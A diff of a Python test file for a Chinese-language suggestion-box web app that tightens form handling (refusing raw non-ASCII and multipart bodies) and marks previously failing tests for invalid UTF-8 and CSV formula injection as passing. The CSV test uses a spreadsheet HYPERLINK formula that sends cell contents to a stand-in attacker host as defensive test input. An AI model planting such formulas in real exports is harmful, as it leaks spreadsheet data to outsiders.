@@ -262,19 +262,16 @@ def test_invalid_percent_encoded_utf8_is_refused(server: LiveServer, web: httpx.
 
 def test_raw_utf8_bytes_in_urlencoded_body_are_refused(server: LiveServer,
                                                        web: httpx.Client) -> None:
-    # Browsers percent-encode; raw (valid) UTF-8 bytes are decoded as Latin-1 by Starlette and
-    # then refused as control characters — a 4xx, nothing stored.
+    # Browsers percent-encode: a urlencoded body with raw non-ASCII bytes is refused as a whole
+    # (Starlette would decode it as Latin-1) — a 400 with a Chinese message, nothing stored.
     token = form_token(web.get("/").text)
     with nothing_stored(server):
         r = web.post("/", content=f"token={token}&category=1&body=".encode()
                      + "未编码的中文内容".encode(),
                      headers={"content-type": "application/x-www-form-urlencoded"})
-    refused(r, 422)
+    refused(r, 400, "字符编码")
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "BUG (views/common.read_form): Starlette decodes raw urlencoded bytes and invalid UTF-8 "
-    "multipart fields as Latin-1, so invalid UTF-8 is stored as mojibake instead of refused"))
 @pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
 def test_raw_invalid_utf8_is_refused(server: LiveServer, web: httpx.Client, encoding: str) -> None:
     token = form_token(web.get("/").text)
@@ -393,8 +390,8 @@ def test_malformed_forms_are_refused(server: LiveServer, web: httpx.Client, cont
                                  ctype: str) -> None:
     with nothing_stored(server):
         r = web.post("/", content=content, headers={"content-type": ctype})
-    # An unterminated body may parse as far as it goes: then the missing token refuses it.
-    refused(r, 422 if r.status_code == 422 and b"unterminated" in content else 400)
+    # Our forms are urlencoded only: multipart of any shape is refused before parsing.
+    refused(r, 415 if ctype.startswith("multipart") else 400)
 
 
 @pytest.mark.parametrize("ctype", [None, "text/plain", "application/json",
@@ -407,13 +404,13 @@ def test_odd_content_types_store_nothing(server: LiveServer, web: httpx.Client,
     assert 400 <= r.status_code < 500 and CHINESE.search(r.text)
 
 
-def test_multipart_submission_works(server: LiveServer, web: httpx.Client) -> None:
+def test_multipart_submission_is_refused(server: LiveServer, web: httpx.Client) -> None:
+    # Our pages never send multipart; refusing it avoids Starlette's Latin-1 fallback.
     token = form_token(web.get("/").text)
-    body = "用 multipart 提交的内容。"
-    r = web.post("/", files={"token": (None, token), "category": (None, "1"),
-                             "body": (None, body)})
-    assert r.status_code == 303
-    case_id_of(server, body)
+    with nothing_stored(server):
+        r = web.post("/", files={"token": (None, token), "category": (None, "1"),
+                                 "body": (None, "用 multipart 提交的内容。")})
+    refused(r, 415, "表单格式有误")
 
 
 # ---- receipts and teams ----------------------------------------------------------------------
@@ -512,9 +509,6 @@ def test_html_payloads_are_escaped_everywhere(server: LiveServer, web: httpx.Cli
         lead.close()
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "BUG (suggestbox/reports.py _csv): cells starting with = + - @ are written as they are, so "
-    "a published summary (pre-filled from the submitter's text) becomes a spreadsheet formula"))
 def test_csv_cells_cannot_become_formulas(server: LiveServer, web: httpx.Client) -> None:
     body = '=HYPERLINK("http://evil.example/?x="&A1,"点这里查看详情")'
     submit_ok(web, body)
